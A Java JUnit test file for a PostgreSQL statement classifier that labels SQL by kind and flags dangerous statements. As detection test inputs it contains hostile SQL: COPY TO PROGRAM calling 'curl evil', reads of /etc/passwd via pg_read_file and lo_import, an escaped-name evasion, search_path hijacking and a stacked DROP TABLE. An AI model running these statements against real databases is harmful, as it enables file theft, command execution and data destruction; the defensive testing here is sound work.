package dev.sluice.sql;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

class StatementClassifierTest {

    @ParameterizedTest(name = "{0} -> {1} {2}")
    @CsvSource(delimiter = '|', textBlock = """
            SELECT * FROM orders                                        | READ        | SELECT
            select 1                                                    | READ        | SELECT
            (SELECT 1) UNION (SELECT 2)                                 | READ        | SELECT
            VALUES (1), (2)                                             | READ        | SELECT
            TABLE orders                                                | READ        | SELECT
            SELECT * FROM t FOR UPDATE                                  | READ        | SELECT
            WITH x AS (SELECT 1) SELECT * FROM x                        | READ        | SELECT
            WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d       | WRITE       | DELETE
            WITH x AS (SELECT 1) DELETE FROM t WHERE a IN (SELECT 1)    | WRITE       | DELETE
            WITH update AS (SELECT 1) SELECT * FROM update              | READ        | SELECT
            SELECT * INTO new_table FROM t                              | WRITE       | SELECT INTO
            INSERT INTO t VALUES (1)                                    | WRITE       | INSERT
            UPDATE t SET a = 1 WHERE id = 2                             | WRITE       | UPDATE
            DELETE FROM orders                                          | WRITE       | DELETE
            MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE| WRITE       | MERGE
            TRUNCATE orders                                             | WRITE       | TRUNCATE
            EXPLAIN SELECT 1                                            | READ        | EXPLAIN
            EXPLAIN DELETE FROM t                                       | READ        | EXPLAIN
            EXPLAIN ANALYZE DELETE FROM t                               | WRITE       | DELETE
            EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1               | WRITE       | UPDATE
            EXPLAIN (ANALYZE false) UPDATE t SET a = 1                  | READ        | EXPLAIN
            EXPLAIN ANALYZE SELECT 1                                    | READ        | EXPLAIN
            CREATE TABLE t (a int)                                      | DDL         | CREATE TABLE
            CREATE UNIQUE INDEX i ON t (a)                              | DDL         | CREATE INDEX
            CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql | DDL | CREATE FUNCTION
            CREATE MATERIALIZED VIEW v AS SELECT 1                      | DDL         | CREATE MATERIALIZED VIEW
            CREATE TEMP TABLE t AS SELECT 1                             | DDL         | CREATE TABLE
            DROP TABLE customers                                        | DDL         | DROP TABLE
            drop table if exists customers cascade                      | DDL         | DROP TABLE
            ALTER TABLE t ADD COLUMN b int                              | DDL         | ALTER TABLE
            COMMENT ON TABLE t IS 'x'                                   | DDL         | COMMENT
            GRANT SELECT ON t TO bob                                    | DCL         | GRANT
            REVOKE ALL ON t FROM bob                                    | DCL         | REVOKE
            CREATE ROLE eve LOGIN                                       | DCL         | CREATE ROLE
            ALTER USER bob WITH SUPERUSER                               | DCL         | ALTER USER
            ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob      | DCL         | ALTER DEFAULT PRIVILEGES
            COPY t TO STDOUT                                            | COPY        | COPY
            BEGIN                                                       | TRANSACTION | BEGIN
            START TRANSACTION READ ONLY                                 | TRANSACTION | START TRANSACTION
            COMMIT                                                      | TRANSACTION | COMMIT
            ROLLBACK PREPARED 'x'                                       | TRANSACTION | ROLLBACK PREPARED
            PREPARE TRANSACTION 'x'                                     | TRANSACTION | PREPARE TRANSACTION
            SAVEPOINT s                                                 | TRANSACTION | SAVEPOINT
            SET TRANSACTION ISOLATION LEVEL SERIALIZABLE                | TRANSACTION | SET TRANSACTION
            SET statement_timeout = 5                                   | SESSION     | SET
            SHOW search_path                                            | SESSION     | SHOW
            RESET ALL                                                   | SESSION     | RESET
            DISCARD ALL                                                 | SESSION     | DISCARD
            DO $$ BEGIN END $$                                          | DYNAMIC     | DO
            EXECUTE p(1)                                                | DYNAMIC     | EXECUTE
            PREPARE p AS DELETE FROM t                                  | DYNAMIC     | PREPARE
            CALL proc()                                                 | DYNAMIC     | CALL
            VACUUM ANALYZE t                                            | UTILITY     | VACUUM
            ALTER SYSTEM SET work_mem = '1GB'                           | UTILITY     | ALTER SYSTEM
            LOAD 'plugin'                                               | UTILITY     | LOAD
            gibberish here                                              | UNKNOWN     | GIBBERISH
            SELECT 'unterminated                                        | UNKNOWN     | ERROR
            SELECT (1                                                   | UNKNOWN     | UNBALANCED
            SELECT 1)                                                   | UNKNOWN     | UNBALANCED
            SELECT 1; DROP TABLE x                                      | UNKNOWN     | MULTIPLE
            42                                                          | UNKNOWN     | UNKNOWN
            (DROP TABLE x)                                              | UNKNOWN     | UNKNOWN
            COPY t                                                      | UNKNOWN     | COPY
            EXPLAIN EXPLAIN SELECT 1                                    | UNKNOWN     | EXPLAIN
            """)
    void classifiesStatements(String sql, StatementClass expectedClass, String expectedType) {
        StatementFacts facts = StatementClassifier.classify(sql);
        assertThat(facts.statementClass()).as(sql).isEqualTo(expectedClass);
        assertThat(facts.statementType()).as(sql).isEqualTo(expectedType);
    }

    @ParameterizedTest(name = "{0} -> hasWhere={1}")
    @CsvSource(delimiter = '|', textBlock = """
            DELETE FROM orders                                          | false
            DELETE FROM orders WHERE id = 1                             | true
            DELETE FROM orders USING (SELECT 1 WHERE true) s            | false
            UPDATE t SET a = (SELECT b FROM u WHERE u.id = 1)           | false
            UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u)           | true
            WITH d AS (DELETE FROM t) SELECT * FROM x WHERE true        | false
            WITH d AS (DELETE FROM t WHERE a = 1) SELECT 1              | true
            EXPLAIN ANALYZE DELETE FROM t                               | false
            SELECT * FROM t WHERE a = 1                                 | true
            """)
    void detectsWhereAtTheStatementsOwnLevel(String sql, boolean expected) {
        assertThat(StatementClassifier.classify(sql).hasWhere()).as(sql).isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', textBlock = """
            COPY t TO STDOUT                          | TO_STDOUT    |
            COPY t (a, b) FROM STDIN WITH (FORMAT csv)| FROM_STDIN   |
            COPY (SELECT * FROM t) TO STDOUT          | TO_STDOUT    |
            COPY t TO '/tmp/x'                        | TO_FILE      | COPY_FILE
            COPY t FROM E'/etc/passwd'                | FROM_FILE    | COPY_FILE
            COPY t TO PROGRAM 'curl evil'             | TO_PROGRAM   | COPY_PROGRAM
            COPY t FROM PROGRAM 'id'                  | FROM_PROGRAM | COPY_PROGRAM
            SELECT 1                                  | NONE         |
            """)
    void readsCopyDirection(String sql, CopyDirection direction, Danger danger) {
        StatementFacts facts = StatementClassifier.classify(sql);
        assertThat(facts.copyDirection()).isEqualTo(direction);
        if (danger == null) {
            assertThat(facts.dangerous()).isFalse();
        } else {
            assertThat(facts.dangers()).containsExactly(danger);
        }
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', textBlock = """
            DO $$ BEGIN PERFORM 1; END $$                         | DO
            EXECUTE stmt                                          | EXECUTE
            PREPARE p (int) AS SELECT $1                          | PREPARE
            CALL p()                                              | CALL
            SELECT * FROM dblink('host=x', 'select 1') AS t(a int)| DBLINK
            SELECT dblink_exec('x', 'drop table y')               | DBLINK
            SELECT query_to_xml('select * from secrets', true, true, '') | QUERY_TO_XML
            SELECT pg_read_file('/etc/passwd')                    | SERVER_FILE
            SELECT pg_catalog.pg_read_binary_file('x')            | SERVER_FILE
            SELECT * FROM pg_ls_dir('.')                          | SERVER_FILE
            SELECT lo_import('/etc/passwd')                       | SERVER_FILE
            SELECT lo_export(1, '/tmp/x')                         | SERVER_FILE
            SELECT "pg_read_file"('/etc/passwd')                  | SERVER_FILE
            SELECT U&"pg\\005fread_file"('/etc/passwd')           | SERVER_FILE
            SELECT set_config('search_path', 'evil', false)       | SET_CONFIG
            SET ROLE admin                                        | SET_ROLE
            SET LOCAL ROLE admin                                  | SET_ROLE
            SET role = 'admin'                                    | SET_ROLE
            SET SESSION AUTHORIZATION admin                       | SET_SESSION_AUTHORIZATION
            SET search_path TO evil, public                       | SET_SEARCH_PATH
            SET SESSION search_path = evil                        | SET_SEARCH_PATH
            SET "search_path" = evil                              | SET_SEARCH_PATH
            SET SCHEMA 'evil'                                     | SET_SEARCH_PATH
            SET standard_conforming_strings = off                 | SET_STRING_SYNTAX
            SET LOCAL backslash_quote TO on                       | SET_STRING_SYNTAX
            SET session_replication_role = replica                | SET_REPLICATION_ROLE
            ALTER SYSTEM SET wal_level = minimal                  | ALTER_SYSTEM
            LOAD 'auto_explain'                                   | LOAD
            EXPLAIN SELECT pg_read_file('x')                      | SERVER_FILE
            """)
    void namesDangers(String sql, Danger danger) {
        StatementFacts facts = StatementClassifier.classify(sql);
        assertThat(facts.dangerous()).as(sql).isTrue();
        assertThat(facts.dangers()).as(sql).contains(danger);
    }

    @Test
    void harmlessStatementsAreNotDangerous() {
        assertThat(StatementClassifier.classify("SET statement_timeout = 1000").dangerous()).isFalse();
        assertThat(StatementClassifier.classify("SELECT lower(name), count(*) FROM t GROUP BY 1").dangerous()).isFalse();
        assertThat(StatementClassifier.classify("DROP FUNCTION pg_read_file(text)").dangerous()).isFalse();
    }

    @Test
    void collectsCalledFunctions() {
        StatementFacts facts = StatementClassifier.classify(
                "INSERT INTO public.t (a, b) SELECT Lower(x), \"Upper\"(y) FROM generate_series(1, 3) WHERE x IN (1) AND EXISTS (SELECT 1)");
        assertThat(facts.functions()).containsExactlyInAnyOrder("lower", "Upper", "generate_series");
    }

    @Test
    void beginAtomicFunctionIsOneDdlStatement() {
        StatementFacts facts = StatementClassifier.classify(
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END");
        assertThat(facts.statementClass()).isEqualTo(StatementClass.DDL);
        assertThat(facts.statementType()).isEqualTo("CREATE FUNCTION");
    }

    @Test
    void commentsDoNotChangeTheClass() {
        assertThat(StatementClassifier.classify("/* DROP TABLE x */ SELECT 1 -- ; DELETE FROM t").statementClass())
                .isEqualTo(StatementClass.READ);
        assertThat(StatementClassifier.classify("-- SELECT\nDROP TABLE x").statementType()).isEqualTo("DROP TABLE");
    }

    @Test
    void emptyStatementIsUnknown() {
        assertThat(StatementClassifier.classify(" /* nothing */ ").statementType()).isEqualTo("EMPTY");
    }
}
